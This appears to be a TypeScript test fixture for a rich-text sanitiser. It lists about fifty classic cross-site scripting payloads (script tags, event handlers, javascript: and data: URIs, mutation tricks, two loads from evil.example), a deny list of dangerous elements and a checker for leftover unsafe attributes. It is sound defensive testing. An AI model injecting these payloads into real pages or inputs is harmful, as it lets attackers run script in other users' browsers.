/**
 * Classic cross-site scripting payloads (OWASP's filter evasion cheat sheet, Cure53's DOMPurify
 * tests, PortSwigger's cheat sheet): each must come out of `sanitizeRichText` and out of the editor
 * with nothing that could run script, load a frame or restyle the page.
 */
export const xssCorpus: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/xss.js></SCRIPT>',
  '<p>hello<script>alert(1)</script></p>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://example.com/a.png" onload="alert(1)">',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src=`javascript:alert(1)`>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href="java&#x73;cript:alert(1)">entity</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">decimal</a>',
  '<a href="  javascript:alert(1)">spaces</a>',
  '<a href="java\tscript:alert(1)">tab</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
  '<a href="vbscript:msgbox(1)">vbs</a>',
  '<a href="https://ok.example" onclick="alert(1)" onmouseover="alert(2)">handlers</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<style>body{background:url("javascript:alert(1)")}</style><p>styled</p>',
  '<p style="background:url(javascript:alert(1))">inline style</p>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form action="javascript:alert(1)"><input type="submit" formaction="javascript:alert(2)"></form>',
  '<button formaction="javascript:alert(1)">go</button>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  '<div onmouseover="alert(1)">hover</div>',
  '<template><script>alert(1)</script></template>',
  '<textarea><script>alert(1)</script></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<img src="/api/attachment/../logout" alt="up and out">',
  '<img src="//evil.example/track.png" alt="protocol relative">',
  '<a href="/api/attachment/download/1">relative link</a>',
  '<<script>script>alert(1)<</script>/script>',
  '<img """><script>alert(1)</script>">',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<p id="__proto__" class="x" data-x="1" aria-label="a">attributes</p>',
];

/** Elements that run script, load a document or another resource, or restyle the page. */
export const dangerousElements = [
  'script',
  'style',
  'iframe',
  'frame',
  'object',
  'embed',
  'form',
  'input',
  'button',
  'textarea',
  'select',
  'svg',
  'math',
  'meta',
  'base',
  'link',
  'template',
  'noscript',
  'video',
  'audio',
  'source',
  'details',
  'body',
  'title',
].join(',');

/**
 * What survives the sanitiser, read back as a browser would (`innerHTML`): any element not on the
 * allow-list, and any attribute that is not an allowed address, alt text or the forced rel/target.
 */
export function unsafeParts(html: string): string[] {
  const holder = document.createElement('div');
  holder.innerHTML = html;
  const found: string[] = [];
  holder.querySelectorAll(dangerousElements).forEach((element) => found.push(`<${element.localName}>`));
  holder.querySelectorAll('*').forEach((element) => {
    for (const { name, value } of Array.from(element.attributes)) {
      const tag = element.localName;
      if (name.startsWith('on') || name === 'style' || name === 'srcdoc' || name.includes(':')) {
        found.push(`${tag}[${name}]`);
      } else if (name === 'href' && (tag !== 'a' || !/^(?:https?|mailto):/i.test(value))) {
        found.push(`${tag}[href=${value}]`);
      } else if (
        name === 'src' &&
        (tag !== 'img' || !/^(?:https?:|\/api\/attachment\/(?!.*\.\.))/i.test(value))
      ) {
        found.push(`${tag}[src=${value}]`);
      } else if (!['href', 'src', 'alt', 'rel', 'target'].includes(name)) {
        found.push(`${tag}[${name}]`);
      }
    }
  });
  return found;
}
